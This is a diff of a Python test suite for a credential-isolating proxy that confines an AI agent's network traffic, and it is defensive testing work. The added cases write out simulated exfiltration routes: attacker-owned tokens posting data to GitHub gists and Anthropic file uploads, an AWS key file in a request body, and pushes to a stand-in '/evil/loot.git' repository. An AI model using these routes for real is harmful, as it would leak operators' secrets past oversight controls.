@@ -160,7 +160,7 @@ def test_a_missing_real_value_refuses_the_request(cred_cage) -> None:
         ("example.com", "/", [(b"Authorization", f"Bearer {GH}".encode())], b""),
         ("api.github.com", "/", [(b"X-Api-Key", GH.encode())], b""),
         ("api.github.com", f"/search?q={GH}", [], b""),
-        ("api.github.com", "/gists", [], b'{"files": {"a": {"content": "' + GH.encode() + b'"}}}'),
+        ("example.com", "/gists", [], b'{"files": {"a": {"content": "' + GH.encode() + b'"}}}'),
         ("api.anthropic.com", "/v1/messages", [(b"Authorization", f"Bearer {AN}".encode())], b""),
         ("api.github.com", "/user", [(b"Authorization", f"Bearer {GH_BOB}".encode())], b""),
     ],
@@ -176,6 +176,104 @@ def test_a_placeholder_out_of_place_is_blocked_before_the_scan(cred_cage, host, 
     assert (got["status"], got["reason"]) == (403, "credential-misuse")
     assert [call["method"] for call in c.scanner.calls] == ["CONNECT"]  # never scanned, never sent
     assert c.audit()[-1]["reason"] == "credential-misuse"
+
+
+@pytest.mark.parametrize(
+    ("host", "path", "headers", "mode"),
+    [
+        ("api.anthropic.com", "/v1/messages", [(b"x-api-key", AN.encode())], "report"),  # the next Messages call after `env`
+        ("api.github.com", "/gists", [(b"Authorization", f"Bearer {GH}".encode())], "enforce"),  # a bound host
+        ("llm.example", "/v1/chat", [], "report"),  # a report-mode destination nothing is bound to
+    ],
+    ids=["llm-api-conversation", "bound-host", "report-mode"],
+)
+def test_the_agents_own_placeholder_in_a_body_to_a_trusted_place_goes_through_untouched(cred_cage, host, path, headers, mode) -> None:
+    env = f"GH_TOKEN={GH}\nANTHROPIC_API_KEY={AN}\n".encode()
+    body = b'{"messages": [{"role": "user", "content": "' + env.replace(b"\n", b"\\n") + b'"}]}'
+
+    async def main():
+        c = cred_cage()
+        return c, await tunnel(c, host, method="POST", path=path, headers=headers, body=body)
+
+    c, flow = run(main())
+    assert flow.response is None, refusal(flow)
+    assert flow.request.raw_content == body  # never swapped in a body
+    line = c.audit()[-1]
+    assert (line["decision"], line["scan_mode"], line["placeholders"]) == ("allow", mode, ["anthropic-api-key", "github-token"])
+    assert GH not in c.audit_path.read_text() and AN not in c.audit_path.read_text()
+
+
+def test_another_agents_placeholder_in_that_body_is_still_misuse(cred_cage) -> None:
+    async def main():
+        c = cred_cage()
+        body = b'{"messages": [{"role": "user", "content": "' + GH_BOB.encode() + b'"}]}'
+        return await tunnel(c, "api.anthropic.com", method="POST", path="/v1/messages", headers=[(b"x-api-key", AN.encode())], body=body)
+
+    got = refusal(run(main()))
+    assert got is not None and got["reason"] == "credential-misuse" and "bob" in got["detail"]
+
+
+# --- a bound host takes its credential and no other (an attacker's own key would open its account) -----------------
+
+
+ATTACKER_OAUTH = "sk-ant-oat01-" + "Attacker0wnToken" * 4
+ATTACKER_GH = "ghp_" + "Attacker0wnGitHub" * 2 + "xy"
+
+
+@pytest.mark.parametrize(
+    ("host", "method", "path", "headers"),
+    [
+        ("api.anthropic.com", "POST", "/v1/files", [(b"Authorization", f"Bearer {ATTACKER_OAUTH}".encode())]),
+        ("api.anthropic.com", "POST", "/v1/files", [(b"x-api-key", b"sk-ant-api03-attackersOwnKey")]),
+        ("api.github.com", "POST", "/gists", [(b"Authorization", f"token {ATTACKER_GH}".encode())]),
+        ("github.com", "GET", "/evil/loot.git/info/refs?service=git-upload-pack",
+         [(b"Authorization", basic("x-access-token", ATTACKER_GH).encode())]),
+    ],
+    ids=["anthropic-oauth-bearer", "anthropic-x-api-key", "github-api", "github-git-fetch"],
+)  # fmt: skip
+def test_an_attackers_own_credential_on_a_bound_host_is_refused_before_the_scan(cred_cage, host, method, path, headers) -> None:
+    body = b"[default]\naws_access_key_id = AKIA...\n" if method == "POST" else b""
+
+    async def main():
+        c = cred_cage()
+        return c, await tunnel(c, host, method=method, path=path, headers=headers, body=body)
+
+    c, flow = run(main())
+    got = refusal(flow)
+    assert got is not None and (got["status"], got["reason"]) == (403, "credential-foreign"), got
+    assert [call["method"] for call in c.scanner.calls] == ["CONNECT"]  # never scanned, never sent
+    line = c.audit()[-1]
+    assert (line["decision"], line["reason"]) == ("block", "credential-foreign")
+    assert not any(value.decode() in c.audit_path.read_text() for _, value in headers)
+
+
+def test_the_agents_placeholder_and_no_credential_pass_there(cred_cage) -> None:
+    """The controls of the test above, through the same hooks: the placeholder is swapped, no credential is no use."""
+    async def main():
+        c = cred_cage()
+        own = await tunnel(c, "api.anthropic.com", method="POST", path="/v1/files", headers=[(b"x-api-key", AN.encode())], body=b"x")
+        bare = await tunnel(c, "api.anthropic.com", method="POST", path="/v1/files", body=b"x")
+        fetch = await tunnel(c, "github.com", path="/evil/loot.git/info/refs?service=git-upload-pack")
+        return c, own, bare, fetch
+
+    c, own, bare, fetch = run(main())
+    assert own.response is None and header_sent(own, "x-api-key") == REAL_AN
+    assert bare.response is None and "x-api-key" not in bare.request.headers and fetch.response is None
+    modes = [(line["path"], line["scan_mode"], line["credentials"]) for line in c.audit() if line["kind"] == "http"]
+    assert modes[:2] == [("/v1/files", "report", ["anthropic-api-key"]), ("/v1/files", "enforce", [])]
+
+
+def test_report_mode_on_a_bound_host_needs_its_credential(cred_cage) -> None:
+    """What the scanner finds in a request that is not going to the operator's account blocks (enforce), even on the LLM API."""
+    found = ScanResult("findings", (Finding("aws-access-key-id", "pattern", "body", "hm:5"),))
+
+    async def main(headers):
+        c = cred_cage()
+        c.scanner.answer = lambda call: found if call["method"] != "CONNECT" else ScanResult("clean")
+        return await tunnel(c, "api.anthropic.com", method="POST", path="/v1/files", headers=headers, body=b"aws")
+
+    assert refusal(run(main([])))["reason"] == "secret-detected"
+    assert run(main([(b"x-api-key", AN.encode())])).response is None  # the control: the operator's account, report mode
 
 
 def test_a_placeholder_over_plain_http_is_refused_even_to_its_host(cred_cage) -> None:
@@ -323,6 +421,28 @@ def test_pushing_to_another_repository_is_refused_at_its_first_request(cred_cage
     _, flow = run(main())
     got = refusal(flow)
     assert (got["reason"], got["rule"]) == ("git-push-denied", "git:repository")
+
+
+def test_an_attackers_own_token_cannot_push_to_the_attackers_repository(cred_cage, history) -> None:
+    """Both requests of a push, under the attacker's token: refused, never scanned, never sent (the git binding
+    decides first; the foreign credential would refuse them too). The control: the agent's own push goes through."""
+    repo, main, first, second = history
+    attacker = [(b"Authorization", basic("x-access-token", ATTACKER_GH).encode())]
+
+    async def main_():
+        c = cred_cage()
+        refs = await tunnel(c, "github.com", path="/evil/loot.git/info/refs?service=git-receive-pack", headers=attacker)
+        body = push_body([(ZERO, second, "refs/heads/main")], repo.pack(second, main, first))
+        pushed = await tunnel(c, "github.com", method="POST", path="/evil/loot.git/git-receive-pack", body=body,
+                              headers=[*attacker, (b"Content-Type", b"application/x-git-receive-pack-request")])  # fmt: skip
+        await advertise(c, {"refs/heads/yolo-cage/alice": first})
+        own = await push(c, push_body([(first, second, "refs/heads/yolo-cage/alice")], repo.pack(second, first)))
+        return c, refs, pushed, own
+
+    c, refs, pushed, own = run(main_())
+    assert refusal(refs)["reason"] == refusal(pushed)["reason"] == "git-push-denied"
+    assert own.response is None and header_sent(own, "Authorization") == basic("x-access-token", REAL_GH)
+    assert not any("/evil/" in call["url"] for call in c.scanner.calls)
 
 
 def test_fetching_another_repository_works_but_never_with_the_token(cred_cage) -> None:
